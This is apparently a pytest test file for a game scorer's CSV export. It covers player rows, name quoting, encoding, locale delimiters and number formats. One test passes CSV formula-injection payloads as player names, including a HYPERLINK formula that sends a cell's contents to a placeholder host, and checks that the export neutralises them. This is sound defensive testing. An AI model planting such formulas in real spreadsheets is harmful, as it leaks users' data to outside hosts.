"""Tables for spreadsheets, and the form as CSV."""

import csv
import io
from typing import Any

import pytest

from scorer.exchange.spreadsheet import spreadsheet, to_csv
from scorer.gamefile import GameFile
from scorer.result import Result, score
from tests.scorer.games import eric, game, solo


def result(data: dict[str, Any] | None = None) -> Result:
    return score(GameFile.from_dict(data or game()))


class TestCsv:
    def rows(self, data: dict[str, Any] | None = None) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(to_csv(result(data)).removeprefix("\ufeff"))))

    def test_a_row_a_player(self) -> None:
        rita, eric = self.rows()
        assert (rita["name"], rita["total"], rita["winner"]) == ("Rita", "17", "no")
        assert (eric["corrupted_codices"], eric["b3"], eric["winner"]) == ("4", "-4", "yes")

    def test_the_public_library_has_a_row(self) -> None:
        assert [row["name"] for row in self.rows(solo())] == ["Igor", "Public library"]

    def test_names_are_quoted(self) -> None:
        assert self.rows(eric(name='Eric, "the" čtenář'))[1]["name"] == 'Eric, "the" čtenář'


class TestSpreadsheets:
    """CSV opens in a spreadsheet with a double click, whatever the language, and names are never formulas."""

    @pytest.mark.parametrize(("edition", "mark"), [("en", ","), ("pt", ";"), ("fr", ";"), ("cs", ";")])
    def test_a_table_opens_in_columns(self, edition: str, mark: str) -> None:
        text = to_csv(result(eric(name="Jiří Řehoř") | {"edition": edition}))
        assert text.encode("utf-8").startswith(b"\xef\xbb\xbf"), "Excel takes it for UTF-8"
        lines = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=mark))
        assert {len(line) for line in lines} == {17}
        assert lines[2][2] == "Jiří Řehoř"
        english = lines[0][0] == "form"
        assert english == (edition == "en")

    @pytest.mark.parametrize("name", ['=HYPERLINK("http://x.test?"&C2)', "+1+1", "-2+3", "@SUM(A1:A9)"])
    def test_a_name_is_no_formula(self, name: str) -> None:
        lines = list(csv.reader(io.StringIO(to_csv(result(eric(name=name))))))
        assert lines[2][2] == f"'{name}"
        assert spreadsheet([[f"\t{name}"], [f"\r{name}"]], "en").count("'") == 2

    def test_numbers_stay_numbers(self) -> None:
        assert spreadsheet([[-4, 1.5]], "en") == "\ufeff-4,1.5\n"
        assert spreadsheet([[-4, 1.5]], "fr") == "\ufeff-4;1,5\n"
